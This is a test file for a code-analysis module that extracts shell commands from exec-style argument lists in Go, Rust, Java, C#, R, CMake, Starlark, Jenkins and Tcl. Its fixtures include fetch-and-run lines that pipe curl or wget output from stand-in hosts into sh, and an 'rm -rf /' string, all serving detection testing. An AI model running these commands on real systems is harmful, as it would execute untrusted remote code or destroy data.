import { describe, expect, it } from 'vitest';
import { foreignCommands, literalsIn } from '../../../src/analysis/code/foreign-calls.js';

const codes = (text: string, tcl = false) => foreignCommands(text, { tcl }).map((c) => c.code);

describe('commands handed on as argument lists, in languages without a parser', () => {
  it('Go exec.Command: literals joined, a variable assigned a literal resolved, others as $ARG', () => {
    const go = [
      'const mirror = "https://dl.cdn-assets-sync.net/i.sh"',
      'exec.Command("curl", "-fsSL", "-o", "/tmp/i.sh", mirror).Run()',
      'exec.Command("bash", "/tmp/i.sh").Run()',
      'exec.CommandContext(ctx, "git", "log", ref).Output()',
    ].join('\n');
    expect(codes(go)).toEqual([
      'curl -fsSL -o /tmp/i.sh https://dl.cdn-assets-sync.net/i.sh',
      'bash /tmp/i.sh',
      'git log $ARG',
    ]);
  });
  it('Rust Command::new with .arg chains over several lines', () => {
    const rs =
      'let s = Command::new("sh")\n    .arg("-c")\n    .arg("curl -s https://45.133.1.9/x | sh")\n    .status()?;\n';
    expect(codes(rs)).toEqual(["sh -c 'curl -s https://45.133.1.9/x | sh'"]);
  });
  it('a shell, its flag and a command as adjacent literals of any list', () => {
    expect(codes('["bash", "-c", "wget -qO- https://45.133.1.9/a | bash"].execute()')).toEqual([
      'wget -qO- https://45.133.1.9/a | bash',
    ]);
    expect(codes('Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", cmd});')).toEqual([
      '/bin/sh -c $ARG',
    ]);
    expect(codes('Process.Start("bash", "-c \\"curl -s https://45.133.1.9/b | sh\\"");')).toContain(
      'bash \'-c "curl -s https://45.133.1.9/b | sh"\'',
    );
  });
  it('R system2, CMake COMMAND words, Starlark local and Jenkins sh strings', () => {
    expect(codes('system2("curl", c("-fsSL", "https://x.cdn-assets-sync.net/y", "-o", "y.R"))')).toEqual([
      'curl -fsSL https://x.cdn-assets-sync.net/y -o y.R',
    ]);
    expect(codes('execute_process(COMMAND git describe --tags OUTPUT_VARIABLE v)')).toEqual([
      'git describe --tags',
    ]);
    expect(codes("local_resource('seed', cmd='make seed', deps=['db'])")).toEqual(['make seed']);
    expect(codes("sh 'curl -s https://45.133.1.9/c | sh'")).toEqual(['curl -s https://45.133.1.9/c | sh']);
  });
  it('Tcl exec lines only when asked (Ruby and Perl `exec "…"` is a string, read elsewhere)', () => {
    const tcl = 'set out [exec sh -c {curl -s https://45.133.1.9/d | sh}]\n';
    expect(codes(tcl, true)).toEqual(["sh -c 'curl -s https://45.133.1.9/d | sh'"]);
    expect(codes(tcl, false)).toEqual([]);
  });
  it('not: a call head without a literal program, or literals that are not one list', () => {
    expect(codes('exec.Command(bin, args...).Run()')).toEqual([]);
    expect(codes('fmt.Println("sh")\nlog.Print("-c")\nx := "rm -rf /"')).toEqual([]);
  });
  it('literals: escapes decoded, an unclosed quote is no literal, bounded by the line', () => {
    expect(literalsIn('a("x\\"y", \'z\') "open\n"').map((l) => l.value)).toEqual(['x"y', 'z']);
  });
});

describe('hostile input stays linear', () => {
  it('a long line of escaped quotes, and many call heads over many literals', () => {
    const quotes = `"x${'\\"'.repeat(120_000)}`;
    const heads = 'exec.Command("a", "b", "c")\n'.repeat(9_000);
    const t0 = performance.now();
    foreignCommands(quotes, { tcl: true });
    foreignCommands(heads, { tcl: true });
    // Generous: linear work here is a few milliseconds; the quadratic version took seconds.
    expect(performance.now() - t0).toBeLessThan(1_500);
    expect(foreignCommands(heads, { tcl: false })).toHaveLength(64);
  });
});
